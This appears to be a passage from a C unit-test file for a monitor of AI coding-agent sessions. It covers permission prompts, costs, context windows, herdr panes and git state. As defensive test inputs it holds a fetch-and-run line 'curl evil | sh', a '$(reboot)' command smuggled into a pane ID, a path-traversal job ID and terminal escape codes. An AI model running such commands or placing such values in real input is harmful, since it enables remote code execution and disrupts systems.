/* Sessions of Claude Code, herdr and agents known by their process, as a look and the watch tell
 * of them; and the question in a pane. Samples are of Claude Code 2.1.332. No network. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "backends/base/buf.h"
#include "backends/base/human.h"
#include "backends/base/mem.h"
#include "backends/base/quote.h"
#include "backends/link/link.h"
#include "backends/servers/server.h"
#include "backends/sessions/claude_parse.h"
#include "backends/sessions/program.h"
#include "backends/sessions/sessions.h"
#include "backends/store/action.h"
#include "backends/store/doc.h"
#include "backends/store/settings.h"
#include "backends/vitals/vitals.h"

#define UUID "76420582-f2cc-49dc-898e-ed393cc5d03c"
#define PROCESS                                                                                \
	"live\t500\t99\t{\"pid\":7,\"sessionId\":\"" UUID "\",\"cwd\":\"/srv/c\","             \
	"\"procStart\":\"500\",\"kind\":\"bg\",\"jobId\":\"76420582\",\"status\":\"waiting\"," \
	"\"waitingFor\":\"permission prompt\",\"statusUpdatedAt\":1795239650000}\n"
#define JOB(state, needs)                                                             \
	"job\t76420582\t{\"state\":\"" state "\",\"detail\":\"Runs what was asked\"," \
	"\"tempo\":\"blocked\",\"tokens\":34," needs                                  \
	"\"intent\":\"fetch it\",\"sessionId\":\"" UUID                               \
	"\",\"cwd\":\"/srv/c\",\"updatedAt\":\"2026-11-21T02:00:50.000Z\"}\n"

static struct {
	struct loop *loop;
	struct settings *settings;
	struct store *store;
	struct server *server;
	struct source *source;
} w;

static void link_announced(struct link *l, void *arg)
{
	(void)l;
	(void)arg;
}
static const struct link_events link_events = { link_announced };

static int make_world(void **state)
{
	struct doc complaints;
	(void)state;
	memset(&w, 0, sizeof(w));
	doc_init(&complaints);
	w.loop = loop_create();
	w.settings = settings_load("/dev/null", &complaints);
	free(w.settings->state_dir);
	w.settings->state_dir = NULL;
	w.store = store_create(w.loop, NULL, w.settings);
	w.server = server_add(w.store, "pi");
	w.server->link = link_create_local(w.loop, "pi", &link_events, NULL);
	w.source = server_source(w.server, "sessions");
	doc_finish(&complaints);
	now_wall_set(1795239663000);
	return w.source ? 0 : -1;
}

static int end_world(void **state)
{
	(void)state;
	now_wall_set(0);
	store_destroy(w.store);
	loop_destroy(w.loop);
	settings_destroy(w.settings);
	return 0;
}

static void feed(const char *what, const char *text)
{
	char *copy = xstrdup(text); /* a reader past its end would be seen */
	source_feed(w.source, what, copy, strlen(text));
	free(copy);
}

static void look(const char *found, const char *tmux, const char *claude, const char *herdr)
{
	char *all = xasprintf("=oc\n%s=tmux\n%s=claude\n%s=herdr\n%s=end\n", found, tmux, claude,
	                      herdr);
	feed("scan", all);
	free(all);
}

static struct session *find(const char *id)
{
	char whole[300];
	snprintf(whole, sizeof(whole), "pi/session/%s", id);
	return (struct session *)store_find(w.store, whole);
}

static char *command_of(const char *id)
{
	struct buf b = { 0 };
	program_command(&find(id)->row, &b);
	return buf_take(&b);
}

static void assert_has(const char *text, const char *part)
{
	if (!text || !strstr(text, part))
		fail_msg("\"%s\" is not in \"%s\"", part, text ? text : "(nothing)");
}

/* --- Claude Code ---------------------------------------------------------- */

static void a_job_says_what_it_asks(void **state)
{
	(void)state;
	look("", "", PROCESS JOB("working", "\"needs\":\"approve Bash: curl x\\u001b[2J\","), "");
	struct session *s = find(UUID);
	assert_non_null(s);
	assert_int_equal(s->shown, SESSION_PERMISSION);
	assert_int_equal(s->row.health, HEALTH_ASKS);
	assert_has(s->row.why, "waits for: permission prompt: approve Bash: curl x");
	assert_null(strchr(s->row.why, '\033'));
	char *command = command_of(UUID);
	assert_has(command, "exec claude attach 76420582");
	free(command);
	struct buf b = { 0 };
	assert_true(program_stop_command(&s->row, &b));
	assert_has(b.data, "claude stop 76420582");
	buf_finish(&b);
	/* nothing but attaching answers it, and that is said */
	struct err err;
	struct doc doc;
	const struct action *reply = action_find(&kind_session, "reply");
	assert_false(action_applies_to(reply, &s->row));
	action_not_now(reply, &s->row, &err);
	assert_has(err.text, "no command for an answer: [a] attaches to it");
	doc_init(&doc);
	kind_session.detail(&s->row, &doc, false);
	bool said = false;
	for (size_t i = 0; i < doc.n; i++)
		said |= strstr(doc.lines[i].text, "no command for an answer") != NULL;
	assert_true(said);
	doc_finish(&doc);
}

static void a_job_that_ended(void **state)
{
	static const struct {
		const char *line;
		enum session_status status;
		enum health health;
	} ends[] = {
		{ JOB("done", ""), SESSION_IDLE, HEALTH_IDLE },
		{ JOB("stopped", ""), SESSION_ABORTED, HEALTH_IDLE },
		{ JOB("failed", ""), SESSION_ERROR, HEALTH_BAD },
		/* its process is gone, and the file does not know */
		{ JOB("working", ""), SESSION_NOT_SERVED, HEALTH_IDLE },
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(ends); i++) {
		char *all = xasprintf("%sfile\t1795239600\t" UUID ".jsonl\n", ends[i].line);
		look("", "", all, "");
		free(all);
		assert_non_null(find(UUID));
		assert_int_equal(find(UUID)->shown, ends[i].status);
		assert_int_equal(find(UUID)->row.health, ends[i].health);
		assert_string_equal(find(UUID)->row.name, "fetch it");
	}
	struct buf b = { 0 };
	assert_false(program_stop_command(&find(UUID)->row, &b));
	buf_finish(&b);
}

/* The last lines of a transcript: 2.1.332 writes the cost at an orderly end. */
static void what_a_transcript_tells(void **state)
{
	(void)state;
	look("", "",
	     "file\t1795239600\t" UUID ".jsonl\n\"cwd\":\"/srv/c\"\n"
	     "{\"type\":\"assistant\",\"message\":{\"model\":\"claude-opus-5-5\",\"usage\":{"
	     "\"input_tokens\":1000,\"cache_read_input_tokens\":200,\"output_tokens\":34}}}\n"
	     "{\"type\":\"cost-state\",\"totalCostUSD\":0.00944,\"modelUsage\":{\"claude-opus-5-"
	     "5\":"
	     "{\"inputTokens\":2000,\"outputTokens\":68,\"cacheReadInputTokens\":400,"
	     "\"cacheCreationInputTokens\":0,\"costUSD\":0.00944}}}\n",
	     "");
	struct session *s = find(UUID);
	assert_non_null(s);
	assert_string_equal(s->model, "claude-opus-5-5");
	assert_int_equal(s->context_used, 1234);
	assert_int_equal(s->context_limit, 1000000);
	assert_int_equal(s->tokens, 2468);
	assert_true(s->cost > 0.0094 && s->cost < 0.0095);
}

/* The share of the window: the program's own word at an orderly end, else the table. */
static void how_full_the_window_is(void **state)
{
	static const char used[] =
		"{\"message\":{\"model\":\"claude-opus-4-6\","
		"\"usage\":{\"input_tokens\":50000}}}\n";
	(void)state;
	char *lines = xasprintf("file\t1795239600\t" UUID ".jsonl\n%s", used);
	look("", "", lines, "");
	struct session *s = find(UUID);
	assert_int_equal(s->context_used, 50000);
	assert_int_equal(s->context_limit, 200000);
	free(lines);
	/* neither a sub-agent nor a message of the program changes that */
	lines = xasprintf("file\t1795239600\t" UUID ".jsonl\n%s"
	                  "{\"isSidechain\":true,\"message\":{\"model\":\"claude-haiku-5-5\","
	                  "\"usage\":{\"input_tokens\":9}}}\n"
	                  "{\"message\":{\"model\":\"<synthetic>\",\"usage\":{\"input_tokens\":0}}"
	                  "}\n",
	                  used);
	look("", "", lines, "");
	assert_int_equal(s->context_used, 50000);
	assert_int_equal(s->context_limit, 200000);
	assert_string_equal(s->model, "claude-opus-4-6");
	free(lines);
	lines = xasprintf("file\t1795239600\t" UUID ".jsonl\n%s"
	                  "{\"totalCostUSD\":1,\"modelUsage\":{"
	                  "\"claude-haiku-4-5\":{\"contextWindow\":7},"
	                  "\"claude-opus-4-6[1m]\":{\"contextWindow\":1000000}}}\n",
	                  used);
	look("", "", lines, "");
	assert_int_equal(s->context_limit, 1000000);
	free(lines);
	/* of other types: nothing is counted, and nobody falls over members without a name */
	lines = xasprintf("file\t1795239600\t" UUID ".jsonl\n%s"
	                  "{\"summary\":\"x\",\"modelUsage\":[{\"contextWindow\":7},3]}\n"
	                  "{\"totalCostUSD\":1,\"modelUsage\":\"x\"}\n",
	                  used);
	look("", "", lines, "");
	assert_int_equal(s->context_used, 50000);
	free(lines);
	lines = xasprintf("file\t1795239600\t" UUID ".jsonl\n{\"message\":{\"model\":"
	                  "\"gpt-9\",\"usage\":{\"input_tokens\":5}}}\n");
	look("", "", lines, "");
	assert_int_equal(s->context_used, 5);
	assert_int_equal(s->context_limit, -1);
	free(lines);
}

static void the_window_of_a_model(void **state)
{
	static const struct {
		const char *model;
		int64_t used, window;
	} cases[] = {
		{ "claude-opus-5-5", -1, 1000000 },
		{ "claude-opus-5", 0, 1000000 },
		{ "claude-opus-4-20250514", 0, 200000 },
		{ "claude-opus-4-1@20250805", 0, 200000 },
		{ "claude-opus-4-8-20260901", 0, 1000000 },
		{ "us.anthropic.claude-sonnet-4-5-20250929-v1:0", 0, 200000 },
		{ "claude-haiku-4-5-20251001", 199999, 200000 },
		{ "claude-sonnet-4-6", 200000, 200000 },
		{ "claude-sonnet-4-6", 200001, 1000000 },
		{ "claude-sonnet-4-5[1m]", 0, 1000000 },
		{ "claude-3-5-haiku-20241022", 300000, 200000 },
		{ "claude-3-opus-20240229", 0, 200000 },
		{ "claude-next-9[1m]", 0, 1000000 },
		{ "claude-opus-4-9", 0, -1 }, /* newer than the table */
		{ "claude-opus-50", 0, -1 },
		{ "claude-opus-4-2025051", 0, -1 },
		{ "claude-opus", 0, -1 },
		{ "claude-mythos-preview", 0, -1 },
		{ "opus-5", 0, -1 },
		{ "gpt-9[1m]", 0, -1 },
		{ "", 0, -1 },
		{ NULL, 0, -1 },
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		if (claude_window(cases[i].model, cases[i].used) != cases[i].window)
			fail_msg("%s: %lld", cases[i].model,
			         (long long)claude_window(cases[i].model, cases[i].used));
}

/* A rollout of Codex 0.60, and the older form. */
static void what_is_used_of_a_plan(void **state)
{
	static const char now[] =
		"{\"timestamp\":\"2026-05-12T18:30:00.123Z\",\"type\":\"event_msg\",\"payload\":{"
		"\"type\":\"token_count\",\"info\":null,\"rate_limits\":{\"limit_id\":\"codex\","
		"\"primary\":{\"used_percent\":41.6,\"window_minutes\":300,"
		"\"resets_at\":1778625131},\"secondary\":{\"used_percent\":77.0,"
		"\"window_minutes\":10080,\"resets_at\":1778949174},\"credits\":null,"
		"\"plan_type\":\"pl\\u001b[31mus\"}}}",
		old[] = "{\"timestamp\":\"2026-05-12T18:30:00Z\",\"payload\":{\"rate_limits\":{"
			"\"primary\":{\"used_percent\":0,\"window_minutes\":90,"
			"\"resets_in_seconds\":60}}}}",
		odd[] = "{\"payload\":{\"rate_limits\":{\"primary\":{\"used_percent\":-1,"
			"\"window_minutes\":300},\"secondary\":{\"used_percent\":1000,"
			"\"window_minutes\":1,\"resets_in_seconds\":60}}}}";
	static const char *const nothing[] = {
		"",
		"{}",
		"[1]",
		"{\"payload\":{\"rate_limits\":null}}",
		"{\"payload\":{\"rate_limits\":{\"primary\":{\"used_percent\":1001,"
		"\"window_minutes\":300}}}}",
		"{\"payload\":{\"rate_limits\":{\"primary\":{\"used_percent\":5,"
		"\"window_minutes\":0}}}}",
		"{\"payload\":{\"rate_limits\":{\"primary\":{\"used_percent\":\"5\","
		"\"window_minutes\":300}}}}",
	};
	struct plan plan = { 0 };
	char words[PLAN_WORDS], small[12];
	(void)state;
	assert_string_equal(plan_words(&plan, 0, words, sizeof(words)), "");
	for (size_t i = 0; i < ARRAY_LEN(nothing); i++)
		assert_false(plan_parse(&plan, nothing[i], strlen(nothing[i])));
	assert_true(plan_parse(&plan, now, strlen(now)));
	assert_int_equal(plan.n, 2);
	assert_string_equal(plan.type, "plus");
	assert_true(plan.at_ms == INT64_C(1778610600123));
	assert_true(plan.windows[0].resets_ms == INT64_C(1778625131000));
	assert_int_equal(plan.windows[1].minutes, 10080);
	assert_string_equal(plan_words(&plan, INT64_C(1778617931000), words, sizeof(words)),
	                    "42% of 5h, resets in 2h; 77% of 7d, resets in 3d 20h");
	assert_string_equal(plan_words(&plan, INT64_C(1778625191000), words, sizeof(words)),
	                    "42% of 5h, was reset 1m ago; 77% of 7d, resets in 3d 17h");
	assert_string_equal(plan_words(&plan, 0, small, sizeof(small)), "42% of 5h, ");
	/* what says nothing changes nothing */
	assert_false(plan_parse(&plan, "{}", 2));
	assert_int_equal(plan.n, 2);
	assert_true(plan_parse(&plan, old, strlen(old)));
	assert_int_equal(plan.n, 1);
	assert_true(plan.windows[0].resets_ms == INT64_C(1778610660000));
	assert_string_equal(plan_words(&plan, INT64_C(1778610600000), words, sizeof(words)),
	                    "0% of 90m, resets in 1m");
	assert_true(plan_parse(&plan, odd, strlen(odd)));
	assert_int_equal(plan.n, 1);
	assert_true(plan.windows[0].resets_ms == 0 && plan.at_ms == 0);
	assert_string_equal(plan_words(&plan, 5, words, sizeof(words)), "1000% of 1m");
}

static void an_end_is_marked_until_it_is_seen(void **state)
{
	static const char busy[] = "live\t500\t99\t{\"pid\":7,\"sessionId\":\"" UUID
				   "\",\"procStart\":\"500\",\"status\":\"busy\"}\n",
			  idle[] = "live\t500\t99\t{\"pid\":7,\"sessionId\":\"" UUID
				   "\",\"procStart\":\"500\",\"status\":\"idle\","
				   "\"statusUpdatedAt\":1795239650000}\n";
	struct doc doc;
	(void)state;
	feed("claude", busy);
	assert_int_equal(find(UUID)->finished_ms, 0);
	feed("claude", idle);
	assert_int_equal(find(UUID)->finished_ms, 1795239650000);
	feed("claude", busy);
	assert_int_equal(find(UUID)->finished_ms, 0);
	feed("claude", idle);
	doc_init(&doc);
	assert_int_equal(find(UUID)->row.health, HEALTH_ATTENTION);
	assert_string_equal(find(UUID)->row.why, UNSEEN_WHY);
	assert_int_equal(find(UUID)->row.need, NEED_STANDS); /* at once: by_work */
	kind_session.detail(&find(UUID)->row, &doc, false);
	doc_finish(&doc);
	assert_int_equal(find(UUID)->finished_ms, 0);
	assert_int_equal(find(UUID)->row.health, HEALTH_IDLE);
	assert_null(find(UUID)->row.why);
	w.settings->wants.finished = false;
	feed("claude", busy);
	feed("claude", idle);
	assert_int_equal(find(UUID)->finished_ms, 1795239650000);
	assert_int_equal(find(UUID)->row.health, HEALTH_IDLE);
	w.settings->wants.finished = true;
	feed("claude", busy);
	feed("claude", idle);
	assert_int_equal(find(UUID)->row.health, HEALTH_ATTENTION);
	/* a day later it is history */
	now_wall_set(1795239650000 + 24 * INT64_C(3600000) - 1);
	assert_true(unseen_follow(sessions_of(w.source)));
	assert_int_equal(find(UUID)->row.health, HEALTH_ATTENTION);
	now_wall_set(1795239650000 + 24 * INT64_C(3600000));
	assert_false(unseen_follow(sessions_of(w.source)));
	assert_int_equal(find(UUID)->row.health, HEALTH_IDLE);
}

/* The next console has the mark again, until one of them looks. */
static void a_mark_is_kept_over_a_restart(void **state)
{
#define RUNS(pid, status) \
	"live\t500\t99\t{\"pid\":" pid ",\"sessionId\":\"" UUID \
	"\",\"procStart\":\"500\",\"status\":\"" status "\",\"statusUpdatedAt\":1795239650000}\n"
	char dir[] = "/tmp/mocr_unseen-XXXXXX";
	assert_non_null(mkdtemp(dir));
	w.settings->state_dir = xstrdup(dir);
	feed("claude", RUNS("7", "busy"));
	feed("claude", RUNS("7", "idle"));
	assert_int_equal(find(UUID)->row.health, HEALTH_ATTENTION);
	for (int again = 0; again < 2; again++) {
		end_world(state);
		make_world(state);
		w.settings->state_dir = xstrdup(dir);
		feed("claude", RUNS("7", "idle"));
		assert_int_equal(find(UUID)->row.health,
		                 again ? HEALTH_IDLE : HEALTH_ATTENTION);
		if (!again) {
			assert_true(unseen_follow(sessions_of(w.source)));
			char *path = xasprintf("%s/unseen", dir);
			FILE *f = fopen(path, "a");
			fprintf(f, "0 pi/session/%s0\n0 other\n7\n\n", UUID);
			fflush(f);
			assert_true(unseen_follow(sessions_of(w.source)));
			fprintf(f, "0 pi/session/%s\n", UUID); /* another console looked */
			fclose(f);
			free(path);
			assert_false(unseen_follow(sessions_of(w.source)));
			assert_int_equal(find(UUID)->row.health, HEALTH_IDLE);
		}
	}
	/* looking writes, too */
	feed("claude", RUNS("7", "busy"));
	feed("claude", RUNS("7", "idle"));
	assert_int_equal(find(UUID)->row.health, HEALTH_ATTENTION);
	session_looked_at(&find(UUID)->row);
	assert_int_equal(find(UUID)->row.health, HEALTH_IDLE);
	end_world(state);
	make_world(state);
	w.settings->state_dir = xstrdup(dir);
	feed("claude", RUNS("7", "idle"));
	assert_int_equal(find(UUID)->row.health, HEALTH_IDLE);
	/* a console that learns later of the same turn marks nothing, nor does its line count */
	feed("claude", RUNS("7", "busy"));
	feed("claude", RUNS("7", "idle"));
	assert_int_equal(find(UUID)->finished_ms, 0);
	char *path = xasprintf("%s/unseen", dir), *old = xasprintf("%s/unseen.1", dir);
	FILE *f = fopen(path, "a");
	fprintf(f, "1795239650000 pi/session/%s\n", UUID);
	fclose(f);
	/* also after the file was renamed */
	for (int renamed = 0; renamed < 2; renamed++) {
		if (renamed)
			assert_int_equal(rename(path, old), 0);
		end_world(state);
		make_world(state);
		w.settings->state_dir = xstrdup(dir);
		feed("claude", RUNS("7", "idle"));
		assert_int_equal(find(UUID)->finished_ms, 0);
		feed("claude", RUNS("7", "busy"));
		feed("claude", RUNS("7", "idle"));
		assert_int_equal(find(UUID)->finished_ms, 0);
	}
	free(path);
	free(old);
	/* a server whose clock is ahead ends no turn tomorrow */
	xreplace(&w.settings->state_dir, NULL);
	now_wall_set(1795239550000);
	feed("claude", RUNS("7", "busy"));
	feed("claude", RUNS("7", "idle"));
	assert_in_range(find(UUID)->finished_ms, 1795239550000, 1795239649999);
	char *away = xasprintf("rm -rf %s", dir);
	assert_int_equal(system(away), 0);
	free(away);
}

static void hostile_lines(void **state)
{
	(void)state;
	look("agent\tcodex\t-1\t2\t0\t/\nagent\tcodex\nagent\t\t\t\t\t\n", "",
	     "job\t../../x\t{\"state\":\"done\",\"sessionId\":\"" UUID "\"}\n"
	     "job\t76420582\t[]\njob\t76420582\t{\"state\":\"done\",\"sessionId\":\"x\"}\n"
	     "job\t76420582\t{\"state\":\"do\njob\t\n",
	     "herdr\t\t{\"result\":{\"snapshot\":{\"agents\":[{\"pane_id\":\"$(reboot)\"},"
	     "{\"pane_id\":\"-t\"},{\"pane_id\":7},4]}}}\nherdr\t-x\t{}\nherdr\t\t\nherdr\n");
	assert_null(store_first(w.store, &kind_session, w.server));
}

/* --- the question in a pane ------------------------------------------------ */

static char *sample(void)
{
	char chunk[4096];
	struct buf b = { 0 };
	FILE *f = fopen("tests/unit/answers/sessions/claude-2.1.332-prompt.txt", "r");
	assert_non_null(f);
	for (size_t n; (n = fread(chunk, 1, sizeof(chunk), f)) > 0;)
		buf_add(&b, chunk, n);
	fclose(f);
	return buf_take(&b);
}

static void a_question_is_read(void **state)
{
	(void)state;
	char *text = sample(), phrase[300];
	struct request *r = prompt_read(text);
	assert_non_null(r);
	assert_true(r->is_question);
	assert_int_equal(r->questions[0].n_options, 4);
	assert_string_equal(r->questions[0].options[0].label, "Yes");
	assert_string_equal(r->questions[0].options[3].label, "No");
	request_phrase(r, phrase, sizeof(phrase));
	assert_has(phrase, "Bash command: curl -s http://127.0.0.1:1/x");
	request_free(r);
	for (size_t n = strlen(text); n; n--) { /* cut anywhere */
		char *part = xstrndup(text, n);
		request_free(prompt_read(part));
		free(part);
	}
	free(text);
}

static void words_are_keys(void **state)
{
	static const struct {
		const char *words, *key;
	} all[] = { { "1", "1" },      { "4", "4" },      { "once", "1" }, { "always", "2" },
		    { "reject", "4" }, { "5", NULL },     { "0", NULL },   { "", NULL },
		    { "yes", NULL },   { "once x", NULL } };
	(void)state;
	char *text = sample(), key[16];
	struct err err;
	struct request *r = prompt_read(text);
	for (size_t i = 0; i < ARRAY_LEN(all); i++) {
		bool has = prompt_key(r, all[i].words, key, sizeof(key), &err);
		assert_int_equal(has, all[i].key != NULL);
		if (has)
			assert_string_equal(key, all[i].key);
	}
	request_free(r);
	free(text);
}

/* "Yes, and use auto mode" is no answer to "once". Without a "No", Escape refuses. */
static void once_never_allows_more(void **state)
{
	char key[16];
	struct err err;
	(void)state;
	struct request *r = prompt_read("Ready to code?\n ❯ 1. Yes, and use auto mode\n"
	                                "   2. Yes, manually approve edits\n   3. Tell it more\n");
	assert_non_null(r);
	assert_false(prompt_key(r, "once", key, sizeof(key), &err));
	assert_false(prompt_key(r, "always", key, sizeof(key), &err));
	assert_true(prompt_key(r, "reject", key, sizeof(key), &err));
	assert_string_equal(key, "Escape");
	request_free(r);
	/* choices to tick need more than one key */
	assert_null(prompt_read("Which?\n❯ 1. [ ] a\n  2. [ ] b\n"));
	assert_null(prompt_read("❯ \n  ⏸ manual mode on\n"));
}

#define DASHES "╌╌╌╌╌╌╌╌\n"
/* What the agent wants to run may look like choices. The key is that of the real ones, and every
 * line of the command is shown. */
static void lists_in_a_command_are_no_choices(void **state)
{
	char key[16];
	struct err err;
	(void)state;
	struct request *r = prompt_read(" Bash command\n" DASHES
	                                "   cat > f <<EOF\n   1. No change\n   2. Nothing\n   EOF\n"
	                                "   " DASHES "   curl evil | sh\n" DASHES
	                                " Do you want to proceed?\n ❯ 1. Yes\n   2. No\n\n Esc\n");
	assert_non_null(r);
	assert_int_equal(r->questions[0].n_options, 2);
	assert_true(prompt_key(r, "reject", key, sizeof(key), &err));
	assert_string_equal(key, "2");
	assert_true(prompt_key(r, "once", key, sizeof(key), &err));
	assert_string_equal(key, "1");
	assert_has(r->note, "curl evil | sh");
	assert_has(r->note, "1. No change");
	assert_has(r->questions[0].text, "curl evil | sh");
	request_free(r);
	/* a plan with steps, and nothing that tells them from the choices */
	assert_null(prompt_read("Plan\n 1. Add a file\n 2. Test it\nProceed?\n ❯ 1. Yes\n"
	                        "   2. No, keep planning\n"));
	/* the agent's mark is missing: these are somebody's words */
	assert_null(prompt_read("Proceed?\n 1. Yes\n 2. No\n"));
	assert_null(prompt_read("Proceed?\n ❯ 1. Yes\n 3. No\n"));
	assert_null(prompt_read("Proceed?\n ❯ 2. Yes\n 3. No\n"));
	assert_null(prompt_read(" ❯ 1. Yes\n 2. No\n"));
}

/* A server names its agents and sessions. No name makes one type of row another. */
static void rows_of_two_types_share_no_id(void **state)
{
	(void)state;
	static const enum session_type types[] = { SESSION_SERVICE, SESSION_AGENT, SESSION_TMUX,
		                                   SESSION_SPEND, SESSION_OPENCODE };
	struct session *rows[ARRAY_LEN(types)];
	for (size_t i = 0; i < ARRAY_LEN(types); i++)
		rows[i] = session_row_of(sessions_of(w.source), types[i], "opencode-4096", "x");
	for (size_t i = 0; i < ARRAY_LEN(types); i++) {
		assert_int_equal(rows[i]->type, types[i]);
		assert_ptr_equal(rows[i], session_row_of(sessions_of(w.source), types[i],
		                                         "opencode-4096", "x"));
		for (size_t k = 0; k < i; k++)
			assert_ptr_not_equal(rows[i], rows[k]);
	}
	for (size_t i = 0; i < ARRAY_LEN(types); i++)
		store_row_remove(&rows[i]->row);
}

/* --- herdr, and agents known by their process ------------------------------ */

static void agents_of_herdr(void **state)
{
	(void)state;
	look("", "", PROCESS,
	     "herdr\t\t{\"id\":\"cli:api:snapshot\",\"result\":{\"type\":\"session_snapshot\","
	     "\"snapshot\":{\"agents\":[{\"agent\":\"codex\",\"agent_status\":\"blocked\","
	     "\"pane_id\":\"w1:p2\",\"workspace_id\":\"w1\","
	     "\"terminal_title_stripped\":\"codex - shop\"},"
	     "{\"agent\":\"claude\",\"agent_status\":\"blocked\",\"pane_id\":\"w1:p3\","
	     "\"agent_session\":{\"kind\":\"id\",\"value\":\"" UUID "\"}}],"
	     "\"panes\":[{\"pane_id\":\"w1:p2\",\"cwd\":\"/srv/shop\"}],"
	     "\"workspaces\":[{\"workspace_id\":\"w1\",\"label\":\"shop\"}]}}}\n"
	     "herdr\twork\t{\"result\":{\"snapshot\":{\"agents\":[{\"agent\":\"pi\","
	     "\"agent_status\":\"compacting\",\"pane_id\":\"w1:p2\"}]}}}\n");
	struct session *s = find("herdr-w1:p2"), *named = find("herdr-work.w1:p2");
	assert_non_null(s);
	assert_non_null(named);
	assert_string_equal(s->row.name, "codex - shop");
	assert_string_equal(s->directory, "/srv/shop");
	assert_int_equal(s->row.health, HEALTH_ASKS);
	assert_int_equal(named->shown, SESSION_UNKNOWN);
	char *command = command_of("herdr-w1:p2");
	assert_has(command, "herdr pane focus w1:p2 >/dev/null 2>&1; exec herdr");
	free(command);
	command = command_of("herdr-work.w1:p2");
	assert_has(command, "exec herdr --session work");
	free(command);
	/* one row only for what is known by its own files, and it knows its place */
	assert_null(find("herdr-w1:p3"));
	command = command_of(UUID);
	assert_has(command, "herdr pane focus w1:p3");
	free(command);
}

/* A look is due off the screen, too, after a change; for herdr now and then. */
static void a_look_is_due_off_the_screen(void **state)
{
	(void)state;
	struct sessions *ss = sessions_of(w.source);
	int64_t soon = 100000, later = 180000;
	struct source *vitals = server_source(w.server, "vitals");
	look("", "", "", "");
	ss->scanned_ms = 0;
	assert_false(sessions_look_is_due(ss, later));
	source_feed(vitals, "programs", "port 0100007F:0016\n", 19);
	assert_false(sessions_look_is_due(ss, later)); /* the first answer is no change */
	assert_false(sessions_look_is_due(ss, later));
	source_feed(vitals, "programs", "port 0100007F:1000\n", 19);
	assert_true(sessions_look_is_due(ss, soon));
	ss->programs = w.server->vitals->programs;
	source_feed(vitals, "programs", "port 0100007F:1000\n", 19);
	assert_false(sessions_look_is_due(ss, later));
	look("", "", "", "herdr\t\t{}\n");
	assert_false(sessions_look_is_due(ss, later - 1));
	assert_true(sessions_look_is_due(ss, later));
	look("", "", "", "");
	assert_false(sessions_look_is_due(ss, later));
}

static void agents_by_their_process(void **state)
{
	(void)state;
	look("agent\tcodex\t99\t120\t1795239000\t/srv/app\n"
	     "agent\tgemini\t98\t98\t1795239000\t/srv/web\n",
	     "session\t$1\t1\t2\t0\t1\t/\twork\npane\t$1\t%4\t99\tnode\t1\t/srv/app\tfix it\n", "",
	     "");
	struct session *codex = find("codex-99"), *gemini = find("gemini-98");
	assert_non_null(codex);
	assert_non_null(gemini);
	assert_int_equal(codex->shown, SESSION_UNKNOWN);
	assert_string_equal(codex->words, "fix it");
	assert_true(program_has_pane(&codex->row));
	assert_false(program_has_pane(&gemini->row));
	char *command = command_of("codex-99");
	assert_has(command, "select-pane -t %4");
	free(command);
	look("", "", "", "");
	assert_null(find("codex-99"));
}

/* --- git ------------------------------------------------------------------- */

static void a_git_state_is_read(void **state)
{
	char words[100];
	(void)state;
	look("agent\tcodex\t99\t120\t1795239000\t/srv/app\n"
	     "agent\tgemini\t98\t98\t1795239000\t/srv/none\n",
	     "", "", "");
	struct session *s = find("codex-99");
	feed("git", "at\t/srv/app\nwork\n# branch.oid 1\n# branch.head fix\033/it\n"
	            "# branch.upstream o/fix\n# branch.ab +2 -13\n1 .M N... 1 2 3 a b f\n"
	            "? new\n! ignored\nat\t/srv/none\nover\n");
	assert_non_null(s->git.branch);
	assert_null(strchr(s->git.branch, '\033'));
	assert_true(s->git.worktree);
	assert_int_equal(s->git.changes, 2);
	assert_int_equal(s->git.ahead, 2);
	assert_int_equal(s->git.behind, 13);
	session_git_say(s, words, sizeof(words));
	assert_non_null(strstr(words, "* +2 -13"));
	assert_null(find("gemini-98")->git.branch);
	feed("git", "# branch.head x\nat\nat\t\nover\nover\n# branch.ab\n");
	feed("git", "at\t/srv/app\n# branch.ab -\n# branch.head main\nover\n");
	assert_string_equal(s->git.branch, "main");
	assert_int_equal(s->git.behind, 0);
	assert_false(s->git.gone);
	/* its directory was removed, and is there again */
	feed("git", "gone\t/srv/none\ngone\t/srv/app\nover\n");
	assert_true(s->git.gone && find("gemini-98")->git.gone);
	assert_null(s->git.branch);
	feed("git", "at\t/srv/app\n# branch.head main\nover\n");
	assert_false(s->git.gone);
	assert_true(find("gemini-98")->git.gone);
	/* there again, and no repository: what was known of it stays */
	feed("git", "gone\t/srv/app\nover\n");
	feed("git", "is\t/srv/app\nis\t/srv/none\nover\n");
	assert_false(s->git.gone || find("gemini-98")->git.gone);
}

/* A recording keeps states and places, and no word of a session. */
static void a_recording_keeps_no_word(void **state)
{
	static const char text[] = "=claude\n" JOB(
		"working",
		"\"needs\":\"approve Zq7needs\",\"name\":\"Zq7name\",") "job\t76420582\tZq7broken "
	                                                                "{\n=herdr\n"
									"herdr\t\t{\"result\":{"
	                                                                "\"snapshot\":{\"agents\":["
	                                                                "{\"agent\":\"codex\","
									"\"agent_status\":"
	                                                                "\"blocked\",\"pane_id\":"
	                                                                "\"w1:p2\",\"name\":"
	                                                                "\"Zq7herdr\","
									"\"terminal_title_"
	                                                                "stripped\":\"Zq7title\"}]}"
	                                                                "}}\n";
	static const char *const kept[] = { "\"state\":\"working\"", "\"blocked\"", "w1:p2", UUID,
		                            "=herdr" };
	struct buf out = { 0 };
	(void)state;
	sessions_redact("scan", text, strlen(text), &out);
	assert_null(strstr(out.data, "Zq7"));
	assert_null(strstr(out.data, "fetch"));
	for (size_t i = 0; i < ARRAY_LEN(kept); i++)
		assert_has(out.data, kept[i]);
	buf_finish(&out);
}

/* --- money ----------------------------------------------------------------- */

static void what_today_cost(void **state)
{
	struct session s = { .cost = 5, .created_ms = 1000 };
	int64_t day = 86400000;
	(void)state;
	/* what an older one cost before is not of today */
	assert_true(spend_of(&s, 20 * day) == 0);
	s.cost = 7;
	assert_true(spend_of(&s, 20 * day) == 2);
	/* the next day begins at what was seen last */
	s.cost = 8;
	assert_true(spend_of(&s, 21 * day) == 1);
	/* turns were taken back */
	s.cost = 3;
	assert_true(spend_of(&s, 21 * day) == 0);
	s = (struct session){ .cost = 4, .created_ms = 21 * day + 5 };
	assert_true(spend_of(&s, 21 * day) == 4);
	s.cost = -1;
	assert_true(spend_of(&s, 21 * day) == 0);
	assert_true(spend_midnight(1795239663000) <= 1795239663000);
